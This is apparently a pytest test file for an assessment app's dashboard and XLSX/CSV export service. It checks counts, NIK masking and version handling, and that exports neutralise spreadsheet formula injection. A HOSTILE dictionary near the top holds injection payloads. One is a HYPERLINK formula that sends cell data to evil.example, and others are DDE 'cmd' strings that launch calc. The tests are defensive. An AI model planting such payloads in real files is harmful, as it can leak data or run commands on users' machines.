"""Office data services: dashboard figures and XLSX/CSV exports, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import text as sa_text

from assessor_app.cli import main
from assessor_app.core.errors import InvalidValueError, NotFoundError
from assessor_app.core.template_loader import load_template_text
from assessor_app.services.demo import seed_demo
from assessor_app.services.office import (
    DashboardFilter,
    ExportOptions,
    OfficeService,
    csv_escape,
)
from tests.helpers import FAILED_KUK, LEGACY_IA01, OL_IA01, competency_records, sign_all
from tests.postgres.support import BACKENDS, fresh_pg_database, open_test_services

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "cmd": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
DEMO_NIK_BAGUS = "0374031211980003"  # demo asesi with a leading zero (welding FR.IA.01)
WELD = "FR.IA.01.JIP.SM02.016.01"


class FakeClock:
    def __init__(self, start: dt.datetime) -> None:
        self.now = start

    def __call__(self) -> dt.datetime:
        return self.now


@pytest.fixture(scope="module", params=BACKENDS)
def demo(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
         ) -> Iterator[Any]:
    """The demo data, seeded once per module and backend: only for tests that just read."""
    if request.param == "sqlite":
        urls: Iterator[str | None] = iter([None])
    else:
        urls = fresh_pg_database()
    url = next(urls)
    services = open_test_services(tmp_path_factory.mktemp("demo"), url)
    try:
        seed_demo(services)
        yield services
    finally:
        services.store.close()
        for _ in urls:  # drops the PostgreSQL database
            pass


def _office(services: Any) -> OfficeService:
    return OfficeService(services.store.engine, services.templates)


def _sheet(path: Path, name: str) -> tuple[list[str], list[dict[str, Any]], list[list[Any]]]:
    wb = openpyxl.load_workbook(path)
    ws = wb[name]
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    return header, [dict(zip(header, [c.value for c in r], strict=True)) for r in rows[1:]], \
        [list(r) for r in rows[1:]]


def _csv(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""),
                               delimiter=delimiter))


# ------------------------------------------------------------------ dashboard


def test_dashboard_counts_the_demo_data(demo: Any) -> None:
    board = _office(demo).dashboard()
    o = board.overall
    # institutional: the JKP carries the verifier's recommendation, no pass/fail, grade or
    # percentage (issue 14); competency apart: Rizky's FR.IA.01 and FR.AK.02 K, Siti's
    # FR.IA.01 OL (observasi lanjut, never BK); the APL/AK.01/AK.03 forms have no result
    # at all (never "lulus")
    assert (o.total, o.finalised, o.passed, o.failed) == (20, 15, 0, 0)
    assert (o.competent, o.not_competent, o.further) == (2, 0, 1)
    assert o.by_status == {"draft": 5, "complete": 1, "locked": 14}
    assert o.by_verdict == {"K": 2, "OL": 1, "recommended": 1, "": 16}
    assert o.mean_score is None  # nothing has a percentage
    assert [(b.key, b.total) for b in board.verdicts] == [
        ("K", 2), ("OL", 1), ("recommended", 1), ("", 16)]
    inst = {b.label: b.total for b in board.institutions}
    assert inst == {"UPTD BLK Tirtamulya": 18, "LPK Cipta Karya Mandiri": 1,
                    "LPK Nusa Digital Kreatif": 1}
    assert board.institutions[0].label == "UPTD BLK Tirtamulya"  # most first
    ia01 = next(b for b in board.templates if b.key == "FR.IA.01.J620100.005.02")
    assert (ia01.total, ia01.passed, ia01.failed, ia01.pass_rate) == (3, 0, 0, None)
    assert (ia01.competent, ia01.not_competent, ia01.further, ia01.mean_score) == (
        1, 0, 1, None)
    assert ia01.label.startswith("Ceklis Observasi")
    assert [b.key for b in board.templates] == sorted(b.key for b in board.templates)
    assert sum(b.total for b in board.months) == 20 and len(board.months) == 1
    en = _office(demo).dashboard(lang="en")
    assert next(b for b in en.templates if b.key == "FR.AK.05.J620100.005.02").label == "Assessment report"


def test_dashboard_filters(demo: Any) -> None:
    office = _office(demo)
    tirta = demo.registry.find_institution("Tirtamulya")
    only = office.dashboard(DashboardFilter(institution_id=tirta.id))
    assert only.overall.total == 18 and [b.key for b in only.institutions] == [tirta.id]
    final = office.dashboard(DashboardFilter(include_drafts=False))
    # finalised: every one has its result, except the consent forms that have none
    assert final.overall.total == 15 and final.overall.by_verdict[""] == 11
    ak01 = office.dashboard(DashboardFilter(template_code="FR.AK.01.J620100.005.02"))
    assert ak01.overall.total == 3 and ak01.overall.by_verdict == {"": 3}
    assert (ak01.overall.passed, ak01.overall.competent) == (0, 0)
    future = office.dashboard(DashboardFilter(date_from="2999-01-01"))
    assert future.overall.total == 0 and future.overall.mean_score is None
    with pytest.raises(InvalidValueError):
        office.dashboard(DashboardFilter(date_from="2026-02-30"))
    with pytest.raises(InvalidValueError):
        office.dashboard(DashboardFilter(timezone="UTC+3"))


def test_dashboard_months_are_local_and_gaps_are_filled(db_url: str | None,
                                                        tmp_path: Path) -> None:
    clock = FakeClock(dt.datetime(2026, 1, 10, 3, 0, tzinfo=dt.UTC))
    services = open_test_services(tmp_path, db_url, clock=clock)
    try:
        inst = services.registry.add_institution("LPK Bulan")
        svc = services.assessments
        svc.create("JKP.LPK.01", institution_id=inst.id)  # January
        clock.now = dt.datetime(2026, 3, 31, 18, 30, tzinfo=dt.UTC)  # = 1 April 01:30 WIB
        svc.create("JKP.LPK.01", institution_id=inst.id)
        board = _office(services).dashboard()
        assert [(b.key, b.total) for b in board.months] == [
            ("2026-01", 1), ("2026-02", 0), ("2026-03", 0), ("2026-04", 1)]
        utc_month = _office(services).dashboard(DashboardFilter(timezone="WIB",
                                                                date_to="2026-03-31"))
        assert utc_month.overall.total == 1
        ranged = _office(services).dashboard(DashboardFilter(date_from="2025-12-01",
                                                             date_to="2026-01-31"))
        assert [b.key for b in ranged.months] == ["2025-12", "2026-01"]
    finally:
        services.store.close()


# ------------------------------------------------------------------ XLSX


def test_xlsx_round_trip_labels_values_and_repeat_sheets(demo: Any, tmp_path: Path) -> None:
    office = _office(demo)
    labels = tmp_path / "jkp.xlsx"
    result = office.export_xlsx(labels, ExportOptions("JKP.LPK.01"))
    assert result.files == [labels] and result.assessments == 1
    assert result.repeat_rows == {"instruktur": 2}
    wb = openpyxl.load_workbook(labels)
    assert wb.sheetnames == ["penilaian", "instruktur", "kolom"]
    header, rows, _cells = _sheet(labels, "penilaian")
    assert header[:3] == ["assessment_id", "revision", "revision_id"]
    (row,) = rows
    assert row["r1_1"] == "Memenuhi" and row["status"] == "terkunci"
    assert row["institution"] == "LPK Cipta Karya Mandiri" and row["verdict"] == "recommended"
    assert row["foto_sarpras"] == 1 and "score_percent" not in row and "grade" not in row
    assert row["jumlah_instruktur"] == 2  # a calculation, typed as a number
    assert len(row["content_sha256"]) == 64
    rheader, reps, _ = _sheet(labels, "instruktur")
    assert rheader[:4] == ["assessment_id", "revision", "row", "subject"]
    assert [(r["assessment_id"], r["row"]) for r in reps] == [
        (row["assessment_id"], 1), (row["assessment_id"], 2)]
    assert reps[0]["instruktur_nama"] == "Agus Setiawan, S.T."
    assert isinstance(reps[0]["instruktur_pengalaman_tahun"], int)
    _h, columns, _ = _sheet(labels, "kolom")
    r1 = next(c for c in columns if c["key"] == "r1_1")
    assert r1["sheet"] == "penilaian" and "m=" in r1["options"]

    values = tmp_path / "jkp-values.xlsx"
    office.export_xlsx(values, ExportOptions("JKP.LPK.01", labels=False, lang="en"))
    assert openpyxl.load_workbook(values).sheetnames == ["assessments", "instruktur", "columns"]
    _h, vrows, _ = _sheet(values, "assessments")
    assert vrows[0]["r1_1"] == "m" and vrows[0]["status"] == "locked"
    en = tmp_path / "jkp-en.xlsx"
    office.export_xlsx(en, ExportOptions("JKP.LPK.01", lang="en"))
    _h, erows, _ = _sheet(en, "assessments")
    assert erows[0]["r1_1"] != "Memenuhi" and erows[0]["r1_1"]  # the English label


def test_nik_stays_text_with_its_leading_zero(demo: Any, tmp_path: Path) -> None:
    office = _office(demo)
    out = tmp_path / "weld.xlsx"
    office.export_xlsx(out, ExportOptions(WELD))
    header, rows, cells = _sheet(out, "penilaian")
    (row,) = rows
    assert row["nik"] == DEMO_NIK_BAGUS and row["revision"] == 2  # the current revision
    nik_cell = cells[0][header.index("nik")]
    assert nik_cell.data_type == "s" and nik_cell.number_format == "@"
    office.export_xlsx(out, ExportOptions(WELD, nik="masked"))
    assert _sheet(out, "penilaian")[1][0]["nik"] == "0374" + "\u2022" * 8 + "0003"
    office.export_xlsx(out, ExportOptions(WELD, nik="omit"))
    assert "nik" not in _sheet(out, "penilaian")[0]
    csv_out = tmp_path / "weld.csv"
    office.export_csv(csv_out, ExportOptions(WELD))
    assert _csv(csv_out)[0]["nik"] == DEMO_NIK_BAGUS


def test_unknown_template_writes_nothing(demo: Any, tmp_path: Path) -> None:
    out = tmp_path / "none.xlsx"
    with pytest.raises(NotFoundError):
        _office(demo).export_xlsx(out, ExportOptions("NO.SUCH"))
    assert not out.exists() and list(tmp_path.glob(".none*")) == []
    with pytest.raises(InvalidValueError):
        _office(demo).export_csv(tmp_path / "x.csv", ExportOptions("JKP.LPK.01", delimiter="|"))


# ------------------------------------------------------------------ hostile strings


def _hostile_assessment(services: Any) -> Any:
    inst = services.registry.add_institution(HOSTILE["hyperlink"], vin="-1+1")
    svc = services.assessments
    row = svc.create("FR.AK.05", institution_id=inst.id,
                     visit_id=services.registry.add_visit(
                         institution_id=inst.id, letter_no=HOSTILE["sum"],
                         place="Kota").id)
    svc.answer(row.id, "skema_judul", HOSTILE["cmd"])
    for key in ("minus", "tab", "cr"):
        rid = svc.add_row(row.id, "asesi")
        svc.answer(row.id, "nama_asesi", HOSTILE[key], row=rid)
        svc.answer(row.id, "rekomendasi", "k", row=rid)
    svc.set_note(row.id, "skema_judul", "catatan kontrol")
    # Control characters are refused at entry (value.bad_text); a record from an older
    # version or another tool may still hold one, and the exports must cope with it.
    with services.store.engine.begin() as c:
        c.execute(sa_text("UPDATE answer SET note = :note WHERE revision_id = :rid AND "
                          "item = 'skema_judul'"), {"note": "catatan \x01 kontrol",
                                                    "rid": row.id})
    return row


def test_csv_escapes_every_formula_cell(db_services: Any, tmp_path: Path) -> None:
    _hostile_assessment(db_services)
    out = tmp_path / "ak05.csv"
    result = _office(db_services).export_csv(out, ExportOptions("FR.AK.05"))
    assert [p.name for p in result.files] == ["ak05.csv", "ak05.asesi.csv", "ak05.kolom.csv"]
    (main_row,) = _csv(out)
    assert main_row["institution"] == "'" + HOSTILE["hyperlink"]
    assert main_row["institution_vin"] == "'-1+1"
    assert main_row["visit_letter_no"] == "'" + HOSTILE["sum"]
    assert main_row["skema_judul"] == "'" + HOSTILE["cmd"]
    assert main_row["subject"].startswith("'@SUM")
    assert main_row["skema_judul.note"] == "catatan \x01 kontrol"
    names = [r["nama_asesi"] for r in _csv(result.files[1])]
    assert names == ["'" + HOSTILE["minus"], "'" + HOSTILE["tab"], "'" + HOSTILE["cr"]]
    for f in result.files:  # no cell anywhere starts a formula
        for line in csv.reader(io.StringIO(f.read_bytes().decode("utf-8-sig"), newline="")):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)
    semi = tmp_path / "semi.csv"
    _office(db_services).export_csv(semi, ExportOptions("FR.AK.05", delimiter=";"))
    assert _csv(semi, ";")[0]["skema_judul"] == "'" + HOSTILE["cmd"]


def test_xlsx_keeps_hostile_text_exact_but_never_as_a_formula(db_services: Any,
                                                              tmp_path: Path) -> None:
    _hostile_assessment(db_services)
    out = tmp_path / "ak05.xlsx"
    _office(db_services).export_xlsx(out, ExportOptions("FR.AK.05"))
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
    header, rows, cells = _sheet(out, "penilaian")
    assert rows[0]["institution"] == HOSTILE["hyperlink"]
    assert rows[0]["skema_judul"] == HOSTILE["cmd"]
    assert rows[0]["skema_judul.note"] == "catatan \ufffd kontrol"  # XML cannot hold \x01
    assert all(c.data_type != "f" for c in cells[0])
    _h, reps, rcells = _sheet(out, "asesi")
    # The stdlib XML reader normalises a raw CR to LF when the file is read, lxml (present
    # with pyHanko) keeps it; either way the cell is plain text.
    names = [r["nama_asesi"] for r in reps]
    assert names[:2] == [HOSTILE["minus"], HOSTILE["tab"]] and names[2] in ("\n=1+1", "\r=1+1")
    assert all(c.data_type != "f" for line in rcells for c in line)


def test_csv_escape_rules() -> None:
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_escape(text) == "'" + text
    for text in ("", "1", "a=b", " =1", "'quoted", "0012345678901234"):
        assert csv_escape(text) == text


# ------------------------------------------------------------------ versions and CLI


_V1 = """
template: 1
code: T.OFFICE
version: "{version}"
kind: institutional
subject: institution
title: {{ id: Uji kantor, en: Office test }}
response_sets:
  yt:
    label: Ya/Tidak
    options:
      - {{ value: ya, label: {{ id: Ya, en: "Yes" }}, score: 1 }}
      - {{ value: tidak, label: {{ id: Tidak, en: "No" }}, score: 0 }}
sections:
  - name: s
    title: S
    items:
{items}
"""


def _template(version: str, names: list[str]) -> Any:
    items = "\n".join(f"      - {{ name: {n}, type: select_one, response_set: yt, label: {n} }}"
                      for n in names)
    return load_template_text(_V1.format(version=version, items=items), f"t{version}.yaml")


def test_export_reads_answers_a_chunk_of_revisions_at_a_time(
        demo: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The answers, repeat rows and evidence are read a chunk of revisions at a time (a
    100,000-record export held them all); every chunk size gives the same files."""
    from assessor_app.services import office as office_mod

    office = _office(demo)
    codes = sorted({a.template_code for a in demo.assessments.list()})
    assert len(codes) > 5

    def files(chunk: int) -> list[tuple[str, bytes]]:
        monkeypatch.setattr(office_mod, "EXPORT_CHUNK", chunk)
        out: list[tuple[str, bytes]] = []
        for code in codes:
            folder = tmp_path / f"{chunk}-{code}"
            folder.mkdir()
            office.export_csv(folder / "x.csv", ExportOptions(template_code=code,
                                                               include_drafts=True))
            out += sorted((f"{code}/{f.name}", f.read_bytes()) for f in folder.iterdir())
        return out

    whole = files(10_000)
    assert any(b"Bagus" in data for _name, data in whole)  # answers are in there
    assert files(1) == whole
    assert files(2) == whole


def test_export_spans_every_version_of_a_template(db_services: Any, tmp_path: Path) -> None:
    inst = db_services.registry.add_institution("LPK Versi")
    svc = db_services.assessments
    db_services.templates.install(_template("1", ["a", "b"]))
    old = svc.create("T.OFFICE", institution_id=inst.id)
    svc.answer(old.id, "b", "ya")
    db_services.templates.install(_template("2", ["a", "c"]))
    new = svc.create("T.OFFICE", institution_id=inst.id)
    svc.answer(new.id, "c", "tidak")
    out = tmp_path / "t.xlsx"
    _office(db_services).export_xlsx(out, ExportOptions("T.OFFICE", labels=False))
    header, rows, _ = _sheet(out, "penilaian")
    assert header[-3:] == ["a", "c", "b"]  # newest version's order, then older-only items
    by_version = {r["template_version"]: r for r in rows}
    assert (by_version["1"]["b"], by_version["1"]["c"]) == ("ya", None)
    assert (by_version["2"]["c"], by_version["2"]["b"]) == ("tidak", None)


def test_cli_dashboard_and_export(db_url: str | None, tmp_path: Path,
                                  capsys: pytest.CaptureFixture[str]) -> None:
    base = ["--data-dir", str(tmp_path / "data")]
    if db_url:
        base += ["--database-url", db_url]
    assert main(["demo", *base]) == 0
    capsys.readouterr()
    assert main(["office", "dashboard", "--json", *base]) == 0
    import json

    board = json.loads(capsys.readouterr().out)
    assert board["overall"]["total"] == 20 and board["overall"]["pass_rate"] is None
    assert (board["overall"]["competent"], board["overall"]["not_competent"]) == (2, 0)
    assert main(["office", "dashboard", "--lang", "en", *base]) == 0
    assert "By institution:" in capsys.readouterr().out
    out = tmp_path / "weld.xlsx"
    assert main(["office", "export", "--template", WELD, "--format", "xlsx", "-o", str(out),
                 "--values", "--lang", "id", *base]) == 0
    assert str(out) in capsys.readouterr().out
    assert _sheet(out, "penilaian")[1][0]["nik"] == DEMO_NIK_BAGUS
    csv_out = tmp_path / "ak05.csv"
    assert main(["office", "export", "--template", "FR.AK.05.J620100.005.02", "--format",
                 "csv", "-o", str(csv_out), "--json", *base]) == 0
    payload = json.loads(capsys.readouterr().out)
    # the batch lists the signed FR.AK.02 decisions of the demo: Rizky's
    assert payload["repeat_rows"] == {"asesi": 1} and len(payload["files"]) == 3
    assert main(["office", "export", "--template", "NOPE", "--format", "csv", "-o",
                 str(tmp_path / "n.csv"), *base]) == 2


def test_graded_verdicts_count_as_passed_or_failed_by_their_band(services: Any) -> None:
    """Grades A/B of the 2024.1 JKP need a passed assessment; C is where failed ones land.
    The 2026.1 JKP has no grade: its records count neither way."""
    from assessor_app.core.template_loader import load_template
    from assessor_app.services.office import OfficeService, _grade_passes
    from tests.unit.test_institutional_honesty import JKP_2024, jkp_draft

    seed_demo(services)
    old = services.templates.install(load_template(JKP_2024))
    bands = services.templates.get(old.id).scoring.grade_bands
    assert [_grade_passes(bands, g) for g in ("A", "B", "C", "Z")] == [True, True, False, None]
    sign_all(services.assessments, jkp_draft(services, "JKP.LPK.01@2024.1"))
    board = OfficeService(services.store.engine, services.templates).dashboard()
    jkp = next(b for b in board.templates if b.key == "JKP.LPK.01")
    # the old record's grade A passes; the demo's new one (recommended) is neither
    assert (jkp.total, jkp.passed, jkp.failed) == (2, 1, 0)


# ------------------------------------------------------------------ competency results


def test_competency_exports_and_dashboard_have_no_percentage_or_pass(
        db_services: Any, tmp_path: Path) -> None:
    """Issue 11: a competency record exports K/BK/OL and its KUK counts, never a
    percentage, a grade or "lulus"; a consent form (FR.AK.01) is neither passed nor failed."""
    rec = competency_records(db_services)
    office = _office(db_services)
    never = {"score_percent", "grade", "passed"}
    for code, key, verdict in ((OL_IA01, "ol", "OL"), (LEGACY_IA01.split("@")[0], "bk", "BK")):
        out = tmp_path / f"{key}.xlsx"
        office.export_xlsx(out, ExportOptions(code))
        header, rows, cells = _sheet(out, "penilaian")
        assert not never & set(header) and not any(h.startswith("section.") for h in header)
        row = next(r for r in rows if r["assessment_id"] == rec[key].assessment_id)
        assert (row["verdict"], row["kuk_achieved"], row["kuk_total"]) == (verdict, 8, 9)
        assert row["unit.J.620100.005.02"] == verdict
        assert row[FAILED_KUK] == "Tidak"
        for line in cells:  # no cell says a percentage or a pass; no score but KUK counts
            for c in line:
                assert "%" not in str(c.value or "") and "lulus" not in str(c.value).lower()
                if isinstance(c.value, float):
                    pytest.fail(f"a number that is not a KUK count: {c.coordinate}={c.value}")
        _h, columns, _ = _sheet(out, "kolom")
        assert not never & {c["key"] for c in columns}
    ak01 = tmp_path / "ak01.xlsx"
    office.export_xlsx(ak01, ExportOptions("FR.AK.01.J620100.005.02"))
    header, rows, _ = _sheet(ak01, "penilaian")
    assert len(rows) == 4 and not never & set(header) and "kuk_total" not in header
    assert all(r["verdict"] is None for r in rows)  # no result: an empty cell
    # the JKP (issue 14): the verifier's recommendation, no percentage or grade either
    jkp = tmp_path / "jkp.xlsx"
    office.export_xlsx(jkp, ExportOptions("JKP.LPK.01"))
    header, rows, _ = _sheet(jkp, "penilaian")
    assert not never & set(header) and "kuk_total" not in header
    assert rows[0]["verdict"] == "recommended"

    board = office.dashboard()
    o = board.overall
    assert (o.passed, o.failed, o.mean_score) == (0, 0, None)
    assert (o.competent, o.not_competent, o.further) == (2, 1, 2)
    consent = next(b for b in board.templates if b.key == "FR.AK.01.J620100.005.02")
    assert (consent.total, consent.passed, consent.failed, consent.by_verdict) == (
        4, 0, 0, {"": 4})  # the demo's three, the OL record's own
    assert {b.key for b in board.verdicts} == {"K", "BK", "OL", "recommended", ""}
